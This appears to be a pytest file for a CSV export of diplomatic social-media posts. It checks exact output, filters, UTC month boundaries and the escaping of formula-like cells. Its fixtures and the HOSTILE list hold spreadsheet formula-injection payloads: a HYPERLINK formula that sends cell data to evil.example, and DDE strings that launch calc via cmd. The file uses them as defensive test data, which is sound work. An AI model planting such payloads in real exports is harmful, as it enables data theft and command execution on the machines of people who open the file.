"""The posts export: exact CSV text, filters, UTC month boundaries, spreadsheet safety."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import Engine, text

from monitor.reporting.posts_csv import POST_COLUMNS, cell, export_posts, iter_posts, safe_text, write_csv
from monitor.reporting.selection import Period, Selection
from tests.export.conftest import build_dataset

OCTOBER = Period.month("2026-10")

# Checked by hand against tests/export/conftest.py: engagement at 24 h is the latest snapshot at
# or before 24 h, known only when the post was seen again at or after 24 h (post 1: 5, seen at
# 30 h; post 4: the snapshot at exactly 24 h; post 3: last seen at 1 h, unknown).
EXPECTED = (
    "post_url,platform,post_uri,account_handle,account_name,country,host_country,account_kind,created_at,"
    "language,text,is_reply,is_repost,is_quote,likes,reposts,replies,quotes,engagement,engagement_24h,"
    "engagement_7d,sentiment_label,sentiment_score,topics,edited,edited_at,deleted,deleted_at\r\n"
    "https://example.org/1,bluesky,at://diplomatie.gouv.fr/post/1,diplomatie.gouv.fr,France Diplomatie,FR,,"
    'ministry,2026-10-01T00:00:00Z,fr,"Bonjour, le monde — culture!",0,0,0,10,2,1,0,13,5,,positive,0.8,'
    "culture:0.900,0,,0,\r\n"
    "https://example.org/4,mastodon,at://auswaertiges@social.bund.de/post/4,auswaertiges@social.bund.de,"
    'Auswärtiges Amt,DE,,ministry,2026-10-05T09:00:00Z,de,"Wir fördern Austausch. Grüße, ""alle""",0,0,0,'
    "30,5,3,,38,38,,neutral,0.1,education:0.600,0,,0,\r\n"
    "https://example.org/2,bluesky,at://diplomatie.gouv.fr/post/2,diplomatie.gouv.fr,France Diplomatie,FR,,"
    'ministry,2026-10-10T12:00:00Z,fr,"\'=HYPERLINK(""http://evil.example"",""click"")",1,0,0,2,0,0,0,2,2,2,'
    "negative,-0.6,security:0.700;human_rights:0.550,0,,0,\r\n"
    "https://example.org/7,bluesky,at://franceinusa.bsky.social/post/7,franceinusa.bsky.social,"
    "'=France in the US,FR,US,embassy,2026-10-15T18:45:00Z,en,\"'@ambassador meets students\r\nline two\","
    "0,0,1,4,1,0,0,5,1,1,positive,0.5,education:0.800;culture:0.400,0,,0,\r\n"
    "https://example.org/3,bluesky,at://diplomatie.gouv.fr/post/3,diplomatie.gouv.fr,France Diplomatie,FR,,"
    'ministry,2026-10-20T08:30:00Z,en,"\'+33 1 23 45 67 89, call us",0,1,0,50,20,0,0,70,,,neutral,0,,0,,0,'
    "\r\n"
    "https://example.org/8,bluesky,at://diplomatie.gouv.fr/post/8,diplomatie.gouv.fr,France Diplomatie,FR,,"
    "ministry,2026-10-25T07:00:00Z,en,Climate week: join us,0,0,0,1,0,0,0,1,1,,positive,0.2,"
    "climate:0.950;culture:0.300,0,,0,\r\n"
    "https://example.org/5,mastodon,at://auswaertiges@social.bund.de/post/5,auswaertiges@social.bund.de,"
    "Auswärtiges Amt,DE,,ministry,2026-10-31T23:59:59Z,de,'-1 Minus start\tand a tab,0,0,0,1,0,0,,1,,,,,,1,"
    "2026-11-01T10:00:00Z,1,2026-11-02T00:00:00Z\r\n"
)


def _export(engine: Engine, sel: Selection, excel: bool = False) -> str:
    out = io.StringIO(newline="")
    with engine.connect() as conn:
        export_posts(conn, sel, out, excel=excel)
    return out.getvalue()


def _uris(engine: Engine, sel: Selection) -> list[int]:
    with engine.connect() as conn:
        return [int(row[2].rsplit("/", 1)[1]) for row in iter_posts(conn, sel)]


def test_exact_csv_text_for_the_month(dataset: Engine) -> None:
    assert _export(dataset, Selection(OCTOBER)) == EXPECTED


def test_header_is_the_column_tuple_and_excel_gets_a_bom(dataset: Engine) -> None:
    text_out = _export(dataset, Selection(OCTOBER), excel=True)
    assert text_out.startswith("\ufeffpost_url,")
    rows = list(csv.reader(io.StringIO(text_out.removeprefix("\ufeff"), newline="")))
    assert tuple(rows[0]) == POST_COLUMNS
    assert all(len(r) == len(POST_COLUMNS) for r in rows)


def test_month_boundaries_are_utc_whatever_the_session_time_zone(engine: Engine) -> None:
    build_dataset(engine)
    with engine.connect() as conn:
        if conn.dialect.name == "postgresql":  # a session far from UTC must not move the month
            conn.execute(text("SET TIME ZONE 'Pacific/Kiritimati'"))
        ids = [int(r[2].rsplit("/", 1)[1]) for r in iter_posts(conn, Selection(OCTOBER))]
        created = [r[8] for r in iter_posts(conn, Selection(OCTOBER))]
    # 10 is at 2026-09-30T23:59:59.999999Z and 6 at 2026-11-01T00:00:00Z: both outside.
    assert ids == [1, 4, 2, 7, 3, 8, 5]
    assert cell(created[0]) == "2026-10-01T00:00:00Z" and cell(created[-1]) == "2026-10-31T23:59:59Z"
    assert _uris(engine, Selection(Period.month("2026-09"))) == [10]
    assert _uris(engine, Selection(Period.month("2026-11"))) == [6]


@pytest.mark.parametrize(
    ("sel", "expected"),
    [
        (Selection(OCTOBER, countries=("fr",)), [1, 2, 7, 3, 8]),
        (Selection(OCTOBER, countries=("DE", "FR")), [1, 4, 2, 7, 3, 8, 5]),
        (Selection(OCTOBER, groups=("g7",)), [1, 2, 3, 8]),
        (Selection(OCTOBER, groups=("eu",)), [1, 4, 2, 3, 8, 5]),
        (Selection(OCTOBER, groups=("nobody",)), []),
        (Selection(OCTOBER, platforms=("mastodon",)), [4, 5]),
        (Selection(OCTOBER, topics=("culture",)), [1, 7, 8]),
        (Selection(OCTOBER, topics=("security", "education")), [4, 2, 7]),
        (Selection(OCTOBER, countries=("FR",), topics=("education",)), [7]),
        (Selection(Period.days(date(2026, 10, 5), date(2026, 10, 10))), [4, 2]),
        (Selection(Period.days(date(2026, 10, 31), date(2026, 11, 1))), [5, 6]),
    ],
    ids=["country", "countries", "group", "group-eu", "no-group", "platform", "topic", "topics",
         "country+topic", "days", "days-across-months"],
)  # fmt: skip
def test_filters(dataset: Engine, sel: Selection, expected: list[int]) -> None:
    assert _uris(dataset, sel) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("plain text = fine", "plain text = fine"),
        (" =leading space", " =leading space"),
        ("", ""),
    ],
)
def test_formula_like_text_is_neutralised(value: str, expected: str) -> None:
    assert safe_text(value) == expected
    assert cell(value) == expected


def test_numbers_stay_numbers() -> None:
    assert [cell(v) for v in (-0.6, -3, 0, True, False, None)] == ["-0.6", "-3", "0", "1", "0", ""]


HOSTILE = [
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'quote " and, comma\nnewline',
]


def test_hostile_cells_round_trip_as_text() -> None:
    out = io.StringIO(newline="")
    write_csv(out, ("text", "score"), [(h, -0.5) for h in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    for (text_cell, score), original in zip(rows, HOSTILE, strict=True):
        assert not text_cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert text_cell in (original, "'" + original)
        assert score == "-0.5"
